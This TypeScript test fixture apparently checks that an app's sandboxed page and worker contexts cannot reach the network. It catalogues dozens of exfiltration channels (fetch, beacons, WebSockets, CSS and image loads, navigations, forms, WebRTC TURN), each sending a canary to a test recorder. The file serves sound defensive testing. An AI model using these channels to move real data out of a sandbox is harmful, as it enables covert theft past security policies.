/** Contexts of the app in which an attempt can be made. */
export type LeakContext = 'page' | 'vault' | 'packs';

/** Where an attempt tries to send something. */
export interface LeakTarget {
  /** Address at the recorder, the attempt's name in its path. */
  address: string;
  /** Host and port of the recorder, for protocols that take no address. */
  recorder: string;
}

/** One way out. `run` is executed inside of the context: it sees nothing of this module. As text, with `ADDRESS` for the
 * address, where the test runner would rewrite the code. */
export interface LeakAttempt {
  name: string;
  contexts: readonly LeakContext[];
  /** Takes the page away, so that it needs one of its own. */
  leavesPage?: boolean;
  run: ((target: LeakTarget) => unknown) | string;
}

const EVERYWHERE = ['page', 'vault', 'packs'] as const;
const PAGE = ['page'] as const;
const WORKERS = ['vault', 'packs'] as const;

/** Requests that scripts make. */
const BY_SCRIPT: readonly LeakAttempt[] = [
  { name: 'fetch', contexts: EVERYWHERE, run: ({ address }) => fetch(address, { mode: 'no-cors' }) },
  {
    name: 'fetch-post',
    contexts: EVERYWHERE,
    run: ({ address }) => fetch(address, { method: 'POST', mode: 'no-cors', body: 'canary' }),
  },
  {
    name: 'fetch-keepalive',
    contexts: EVERYWHERE,
    run: ({ address }) => fetch(address, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'canary' }),
  },
  {
    name: 'xhr',
    contexts: EVERYWHERE,
    run: ({ address }) => {
      const request = new XMLHttpRequest();
      request.open('POST', address);
      request.send('canary');
    },
  },
  {
    name: 'websocket',
    contexts: EVERYWHERE,
    run: ({ address }) => new WebSocket(address.replace('http:', 'ws:')),
  },
  { name: 'event-source', contexts: EVERYWHERE, run: ({ address }) => new EventSource(address) },
  { name: 'import', contexts: EVERYWHERE, run: `import('ADDRESS')` },
  {
    name: 'cache-add',
    contexts: EVERYWHERE,
    run: async ({ address }) => (await caches.open('leak')).add(new Request(address, { mode: 'no-cors' })),
  },
  {
    name: 'nested-worker',
    contexts: EVERYWHERE,
    run: ({ address }) => {
      const script = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      return new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
    },
  },
  {
    name: 'font-face',
    contexts: EVERYWHERE,
    run: ({ address }) => new FontFace('leak', `url(${address})`).load(),
  },
  { name: 'beacon', contexts: PAGE, run: ({ address }) => navigator.sendBeacon(address, 'canary') },
];

/** Requests that elements make. */
const BY_ELEMENT: readonly LeakAttempt[] = [
  {
    name: 'image',
    contexts: PAGE,
    run: ({ address }) => {
      new Image().src = address;
    },
  },
  {
    name: 'image-srcset',
    contexts: PAGE,
    run: ({ address }) => {
      new Image().srcset = `${address} 1x`;
    },
  },
  {
    name: 'css-background',
    contexts: PAGE,
    run: ({ address }) => {
      document.body.style.backgroundImage = `url(${address})`;
    },
  },
  {
    name: 'constructed-sheet',
    contexts: PAGE,
    run: ({ address }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { mask-image: url(${address}); cursor: url(${address}), auto; }`);
      document.adoptedStyleSheets = [sheet];
    },
  },
  ...(['stylesheet', 'prefetch', 'modulepreload', 'icon'] as const).map((rel) => ({
    name: `link-${rel}`,
    contexts: PAGE,
    run: ({ address }: LeakTarget) => {
      const link = document.createElement('link');
      link.rel = new URL(address).pathname.replace('/link-', '');
      link.href = address;
      document.head.append(link);
    },
  })),
  {
    name: 'script',
    contexts: PAGE,
    run: ({ address }) => {
      const script = document.createElement('script');
      script.src = address;
      document.head.append(script);
    },
  },
  ...(['video', 'audio', 'iframe', 'embed'] as const).map((tag) => ({
    name: `element-${tag}`,
    contexts: PAGE,
    run: ({ address }: LeakTarget) => {
      const element = document.createElement(new URL(address).pathname.replace('/element-', ''));
      element.setAttribute('src', address);
      document.body.append(element);
    },
  })),
  {
    name: 'element-object',
    contexts: PAGE,
    run: ({ address }) => {
      const element = document.createElement('object');
      element.data = address;
      document.body.append(element);
    },
  },
  {
    name: 'frame-image',
    contexts: PAGE,
    run: ({ address }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const image = frame.contentDocument?.createElement('img');
      if (image === undefined) return;
      image.src = address;
      frame.contentDocument?.body.append(image);
    },
  },
  {
    name: 'anchor-ping',
    contexts: PAGE,
    run: ({ address }) => {
      const anchor = document.createElement('a');
      anchor.href = '#open';
      anchor.ping = address;
      document.body.append(anchor);
      anchor.click();
    },
  },
];

/** Ways out that take the page, or another one, somewhere else. */
const BY_NAVIGATION: readonly LeakAttempt[] = [
  {
    name: 'location',
    contexts: PAGE,
    leavesPage: true,
    run: ({ address }) => {
      location.href = address;
    },
  },
  {
    name: 'location-replace',
    contexts: PAGE,
    leavesPage: true,
    run: ({ address }) => {
      location.replace(address);
    },
  },
  {
    name: 'link-click',
    contexts: PAGE,
    leavesPage: true,
    run: ({ address }) => {
      const anchor = document.createElement('a');
      anchor.href = address;
      document.body.append(anchor);
      anchor.click();
    },
  },
  {
    name: 'link-download',
    contexts: PAGE,
    leavesPage: true,
    run: ({ address }) => {
      const anchor = document.createElement('a');
      anchor.href = address;
      anchor.download = 'x';
      document.body.append(anchor);
      anchor.click();
    },
  },
  {
    name: 'meta-refresh',
    contexts: PAGE,
    leavesPage: true,
    run: ({ address }) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${address}`;
      document.head.append(meta);
    },
  },
  { name: 'window-open', contexts: PAGE, leavesPage: true, run: ({ address }) => void window.open(address) },
  {
    name: 'window-open-noopener',
    contexts: PAGE,
    leavesPage: true,
    run: ({ address }) => void window.open(address, '_blank', 'noopener'),
  },
  ...(['get', 'post'] as const).map((method) => ({
    name: `form-${method}`,
    contexts: PAGE,
    leavesPage: true,
    run: ({ address }: LeakTarget) => {
      const form = document.createElement('form');
      form.method = new URL(address).pathname.replace('/form-', '');
      form.action = address;
      document.body.append(form);
      form.submit();
    },
  })),
  {
    name: 'webrtc-turn',
    contexts: PAGE,
    run: async ({ recorder }) => {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls: `turn:${recorder}?transport=tcp`, username: 'canary', credential: 'canary' }],
      });
      connection.createDataChannel('leak');
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
];

/** Ways that only workers have. */
const BY_WORKER: readonly LeakAttempt[] = [
  {
    name: 'sync-xhr',
    contexts: WORKERS,
    run: ({ address }) => {
      const request = new XMLHttpRequest();
      request.open('GET', address, false);
      request.send();
    },
  },
];

/** Every way out that is tried. Each is proved to work where no policy stands in its way. */
export const LEAK_ATTEMPTS: readonly LeakAttempt[] = [...BY_SCRIPT, ...BY_ELEMENT, ...BY_NAVIGATION, ...BY_WORKER];
